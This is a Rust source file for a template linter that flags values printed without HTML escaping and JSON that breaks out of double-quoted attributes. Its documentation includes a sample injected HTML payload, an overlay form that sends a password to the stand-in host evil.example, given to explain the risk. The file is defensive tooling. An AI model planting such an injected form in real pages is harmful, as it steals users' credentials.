use crate::lint::page_report::{PageContext, PageReport};
use crate::lint::report::lint;
use crate::page::{Escaping, Event, Finding, Output, Part, Parts, RawBy};

lint! {
    /// # What it does
    ///
    /// Looks for a value that is printed without escaping because of a marker: `|safe`, `|escape("none")`, `{{{ }}}` and `{{& }}`. It also
    /// looks for JSON in an attribute with double quotes, which the first quote of the JSON ends.
    ///
    /// Constants of the template, numbers, and the field of `csrf` are fine. In a script, a style or a comment, the lint of that place
    /// fires instead.
    ///
    /// # Why it matters
    ///
    /// A marker says that somebody has made sure that the value is safe HTML. The template cannot show who, and the next value that
    /// reaches it may come from elsewhere.
    ///
    /// # Attack
    ///
    /// A shop prints the description of an article with `|safe`, because the staff writes HTML. Later, sellers can enter descriptions:
    ///
    /// ```html
    /// <p>A nice chair<form action="https://evil.example" style="position:fixed;inset:0"><input type="password" name="p"></p>
    /// ```
    ///
    /// No script is needed to send a password elsewhere; a policy with `form_action` blocks this form, but not a link that looks like it.
    ///
    /// # Example
    ///
    /// ```html
    /// <p>{{ article.description|safe }}</p>
    /// ```
    ///
    /// # Fix
    ///
    /// ```html
    /// <p>{{ article.description }}</p>
    /// ```
    ///
    /// # Allow
    ///
    /// Reasonable where the value is sanitized when it is stored or printed, for example by the crate `ammonia`.
    ///
    /// ```html
    /// {# security_policy: allow(template_raw_output, reason = "`Article::load` cleans it with ammonia") #}
    /// <p>{{ article.description|safe }}</p>
    /// ```
    ///
    /// # References
    ///
    /// - [Flask, Security Considerations: Cross-Site Scripting](https://flask.palletsprojects.com/en/stable/web-security/#cross-site-scripting-xss)
    /// - [OWASP, Cross Site Scripting Prevention](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html)
    /// - [Jinja, `safe`](https://jinja.palletsprojects.com/en/stable/templates/#jinja-filters.safe)
    Warn "a value that is printed without escaping" page,
    cwe [79], asvs ["1.2.1", "1.3.1"],
    check
}

fn check(event: &Event<'_>, context: &PageContext<'_>, report: &mut PageReport<'_>) {
    match event {
        Event::Text(text) if !(context.is_token)(event) => raw(text, context, report),
        // A script runs what it contains, and a style likewise: their lints say so.
        Event::Raw { element, content } if !element.has_code() => raw(content, context, report),
        Event::Start(element) => {
            for (attribute, value) in element.attributes.iter().filter_map(|it| Some((it, it.value.as_ref()?))) {
                raw(value, context, report);
                if attribute.quote == Some('"') {
                    json(attribute.name.prefix(), value, context, report);
                }
            }
        }
        _ => {}
    }
}

fn raw(text: &Parts<'_>, context: &PageContext<'_>, report: &mut PageReport<'_>) {
    for output in text.outputs().filter(|output| !output.is_fixed()) {
        let Escaping::Raw(RawBy::Marker(marker)) = &output.escaping else { continue };
        let alternative = match escaped(output, context) {
            Some(escaped) => format!("write `{escaped}`, or clean the HTML and allow this with the reason"),
            None => "remove the marker, or clean the HTML and allow this with the reason".to_owned(),
        };
        report.push(
            Finding::new(*marker, format!("`{}` is printed without escaping", context.shown(output)))
                .help(alternative)
                .note("a value with `<` in it adds elements to the page: forms, links and scripts"),
        );
    }
}

/// The tag without its marker.
fn escaped(output: &Output, context: &PageContext<'_>) -> Option<String> {
    let Escaping::Raw(RawBy::Marker(marker)) = &output.escaping else { return None };
    let (tag, text) = (context.shown(output), context.files.text(*marker));
    if tag.starts_with("{{{") || tag.starts_with("{{&") {
        return Some(format!("{{{{{}}}}}", output.expression));
    }
    let (before, after) = tag.split_once(text)?;
    let before = before.trim_end().strip_suffix('|')?.trim_end();
    // The arguments of the filter.
    let after = match after.strip_prefix('(') {
        Some(rest) => rest.split_once(')')?.1,
        None => after,
    };
    Some(format!("{before}{after}"))
}

/// JSON in an attribute with double quotes.
fn json(name: &str, value: &Parts<'_>, context: &PageContext<'_>, report: &mut PageReport<'_>) {
    for output in value.outputs().filter(|output| output.escaping == Escaping::Json && !output.is_fixed()) {
        let tag = context.shown(output);
        let is_whole = matches!(value.parts.as_slice(), [Part::Output(_)]);
        let help = match is_whole {
            true => format!("write single quotes: `{name}='{tag}'`"),
            false => "write single quotes around the value".to_owned(),
        };
        report.push(
            Finding::new(output.place, format!("`{tag}` prints `\"`, which ends the value of `{name}`"))
                .help(help)
                .note("JSON keeps its double quotes: the text after the first one is read as attributes"),
        );
    }
}
